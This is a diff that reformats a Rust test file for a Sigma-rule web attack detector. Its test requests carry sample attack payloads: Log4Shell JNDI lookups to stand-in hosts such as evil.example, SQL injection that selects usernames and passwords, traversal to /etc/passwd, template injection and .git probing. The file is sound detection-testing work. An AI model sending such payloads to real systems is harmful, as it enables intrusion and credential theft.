@@ -26,7 +26,8 @@ fn corpus() -> &'static (Arc<RuleSet>, LoadReport) {
             "sigma web rule corpus missing: {} (expected the shared SigmaHQ web rules there)",
             dir.display()
         );
-        let (rs, report) = load_dir(&dir).unwrap_or_else(|e| panic!("loading {}: {e}", dir.display()));
+        let (rs, report) =
+            load_dir(&dir).unwrap_or_else(|e| panic!("loading {}: {e}", dir.display()));
         (Arc::new(rs), report)
     })
 }
@@ -34,12 +35,20 @@ fn corpus() -> &'static (Arc<RuleSet>, LoadReport) {
 #[test]
 fn all_web_rules_load() {
     let (rs, report) = corpus();
-    println!("loaded {} rules, refused {}", report.loaded.len(), report.refused.len());
+    println!(
+        "loaded {} rules, refused {}",
+        report.loaded.len(),
+        report.refused.len()
+    );
     println!("{:<100} | reason", "path or id");
     for (what, why) in &report.refused {
         println!("{what:<100} | {why}");
     }
-    assert!(report.refused.len() <= 5, "too many refusals: {:#?}", report.refused);
+    assert!(
+        report.refused.len() <= 5,
+        "too many refusals: {:#?}",
+        report.refused
+    );
     assert_eq!(report.loaded.len() + report.refused.len(), 141);
     assert_eq!(rs.len(), report.loaded.len());
     assert!(report.loaded.iter().all(|r| r.kind == RuleKind::Detection));
@@ -95,70 +104,150 @@ fn check(ev: ApiEvent<'_>, expected: Option<&str>) {
             "expected a rule titled like {want:?} on {:?}, got {got:?}",
             ev.raw
         ),
-        None => assert!(got.is_empty(), "expected silence on {:?}, got {got:?}", ev.raw),
+        None => assert!(
+            got.is_empty(),
+            "expected silence on {:?}, got {got:?}",
+            ev.raw
+        ),
     }
 }
 
-const UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36";
+const UA: &str =
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36";
 
 #[test]
 fn log4shell_in_query_fires() {
-    check(req("203.0.113.5", "GET", "/search?q=${jndi:ldap://evil.example/a}", 200, UA), Some("Log4j"));
+    check(
+        req(
+            "203.0.113.5",
+            "GET",
+            "/search?q=${jndi:ldap://evil.example/a}",
+            200,
+            UA,
+        ),
+        Some("Log4j"),
+    );
 }
 
 #[test]
 fn log4shell_in_user_agent_fires() {
-    check(req("203.0.113.5", "GET", "/", 200, "${jndi:ldap://x.example/a}"), Some("Log4j"));
+    check(
+        req("203.0.113.5", "GET", "/", 200, "${jndi:ldap://x.example/a}"),
+        Some("Log4j"),
+    );
 }
 
 #[test]
 fn log4shell_from_nessus_filtered() {
     // The generic rule's `not filter` keywords exclude Nessus probes; other rules may still fire.
-    let got = titles(&req("203.0.113.5", "GET", "/?x=${jndi:ldap://w.nessus.org/nessus}", 200, UA));
-    assert!(!got.iter().any(|t| t == "Log4j RCE CVE-2021-44228 Generic"), "{got:?}");
-    let got = titles(&req("203.0.113.5", "GET", "/?x=${jndi:ldap://w.example.org/x}", 200, UA));
-    assert!(got.iter().any(|t| t == "Log4j RCE CVE-2021-44228 Generic"), "{got:?}");
+    let got = titles(&req(
+        "203.0.113.5",
+        "GET",
+        "/?x=${jndi:ldap://w.nessus.org/nessus}",
+        200,
+        UA,
+    ));
+    assert!(
+        !got.iter().any(|t| t == "Log4j RCE CVE-2021-44228 Generic"),
+        "{got:?}"
+    );
+    let got = titles(&req(
+        "203.0.113.5",
+        "GET",
+        "/?x=${jndi:ldap://w.example.org/x}",
+        200,
+        UA,
+    ));
+    assert!(
+        got.iter().any(|t| t == "Log4j RCE CVE-2021-44228 Generic"),
+        "{got:?}"
+    );
 }
 
 #[test]
 fn sql_injection_on_404_is_filtered() {
     check(
-        req("198.51.100.7", "GET", "/items?id=1+UNION+SELECT+username,password+FROM+users--", 404, UA),
+        req(
+            "198.51.100.7",
+            "GET",
+            "/items?id=1+UNION+SELECT+username,password+FROM+users--",
+            404,
+            UA,
+        ),
         None,
     );
 }
 
 #[test]
 fn raw_encoded_traversal_fires() {
-    check(req("198.51.100.7", "GET", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", 400, UA), Some(""));
+    check(
+        req(
+            "198.51.100.7",
+            "GET",
+            "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
+            400,
+            UA,
+        ),
+        Some(""),
+    );
 }
 
 #[test]
 fn git_folder_enumeration_fires() {
-    check(req("198.51.100.7", "GET", "/.git/config", 404, UA), Some("Source Code Enumeration"));
+    check(
+        req("198.51.100.7", "GET", "/.git/config", 404, UA),
+        Some("Source Code Enumeration"),
+    );
 }
 
 #[test]
 fn path_traversal_fires() {
-    check(req("198.51.100.7", "GET", "/static/../../../../etc/passwd", 400, UA), Some("Traversal"));
+    check(
+        req(
+            "198.51.100.7",
+            "GET",
+            "/static/../../../../etc/passwd",
+            400,
+            UA,
+        ),
+        Some("Traversal"),
+    );
 }
 
 #[test]
 fn sql_injection_fires() {
     check(
-        req("198.51.100.7", "GET", "/items?id=1%27+UNION+SELECT+username,password+FROM+users--", 200, UA),
+        req(
+            "198.51.100.7",
+            "GET",
+            "/items?id=1%27+UNION+SELECT+username,password+FROM+users--",
+            200,
+            UA,
+        ),
         Some("SQL"),
     );
 }
 
 #[test]
 fn ssti_fires() {
-    check(req("198.51.100.8", "GET", "/render?name={{7*7}}", 200, UA), Some("Template"));
+    check(
+        req("198.51.100.8", "GET", "/render?name={{7*7}}", 200, UA),
+        Some("Template"),
+    );
 }
 
 #[test]
 fn webshell_user_agent_or_scanner_ua_fires() {
-    check(req("198.51.100.9", "GET", "/", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)"), Some(""));
+    check(
+        req(
+            "198.51.100.9",
+            "GET",
+            "/",
+            200,
+            "sqlmap/1.7.2#stable (https://sqlmap.org)",
+        ),
+        Some(""),
+    );
 }
 
 #[test]
@@ -181,7 +270,13 @@ fn benign_api_calls_stay_silent() {
 fn alert_carries_author_licence_and_entities() {
     let (rs, _) = corpus();
     let mut det = SigmaDetector::new(Arc::clone(rs), SigmaConfig::default());
-    let ev = req("203.0.113.5", "GET", "/a?q=${jndi:ldap://evil.example/a}", 200, UA);
+    let ev = req(
+        "203.0.113.5",
+        "GET",
+        "/a?q=${jndi:ldap://evil.example/a}",
+        200,
+        UA,
+    );
     let alerts = run(&mut det, &ev);
     let a = alerts
         .iter()
@@ -193,7 +288,9 @@ fn alert_carries_author_licence_and_entities() {
     assert_eq!(r.author, "Florian Roth (Nextron Systems)");
     assert_eq!(r.id, "5ea8faa8-db8b-45be-89b0-151b84c82702");
     assert_eq!(r.level, "high");
-    assert!(a.description.ends_with("Sigma rule by Florian Roth (Nextron Systems) (DRL 1.1)"));
+    assert!(a
+        .description
+        .ends_with("Sigma rule by Florian Roth (Nextron Systems) (DRL 1.1)"));
     assert_eq!(a.detector, "sigma");
     assert_eq!(a.severity, rampart_model::Severity::High);
     assert!(a.mitre.contains(&"T1190".to_string()), "{:?}", a.mitre);
@@ -260,8 +357,16 @@ fn min_level_filters_low_rules() {
         },
     );
     // The git enumeration rule is medium: silenced at min_level critical.
-    let alerts = run(&mut det, &req("198.51.100.7", "GET", "/.git/config", 404, UA));
-    assert!(alerts.iter().all(|a| a.severity == rampart_model::Severity::Critical), "{alerts:?}");
+    let alerts = run(
+        &mut det,
+        &req("198.51.100.7", "GET", "/.git/config", 404, UA),
+    );
+    assert!(
+        alerts
+            .iter()
+            .all(|a| a.severity == rampart_model::Severity::Critical),
+        "{alerts:?}"
+    );
 }
 
 const CORRELATION: &str = r#"
@@ -321,7 +426,11 @@ fn event_count_correlation_fires_once_threshold_reached() {
     let mut other = Vec::new();
     for i in 0..3 {
         let ev = req("203.0.113.78", "GET", "/admin", 404, UA);
-        other.extend(run(&mut det, &ev).into_iter().filter(|a| a.title.starts_with("Many")));
+        other.extend(
+            run(&mut det, &ev)
+                .into_iter()
+                .filter(|a| a.title.starts_with("Many")),
+        );
         let _ = i;
     }
     assert!(other.is_empty());
@@ -340,10 +449,17 @@ fn broken_sources_are_refused_with_reasons() {
             "title: C\ncorrelation:\n  type: event_count\n  rules: [nope]\n  group-by: [c-ip]\n  timespan: 1m\n  condition:\n    gte: 2\n".into(),
         ),
     ]);
-    let reasons: Vec<_> = report.refused.iter().map(|(p, r)| format!("{p}: {r}")).collect();
+    let reasons: Vec<_> = report
+        .refused
+        .iter()
+        .map(|(p, r)| format!("{p}: {r}"))
+        .collect();
     assert_eq!(report.refused.len(), 3, "{reasons:#?}");
     assert_eq!(rs.len(), 0, "{:?}", report.loaded);
-    assert!(reasons[0].starts_with("bad.yml: parse error"), "{reasons:?}");
+    assert!(
+        reasons[0].starts_with("bad.yml: parse error"),
+        "{reasons:?}"
+    );
     assert!(reasons[1].contains("not webserver or proxy"), "{reasons:?}");
     assert!(reasons[2].contains("correlation refused"), "{reasons:?}");
 }
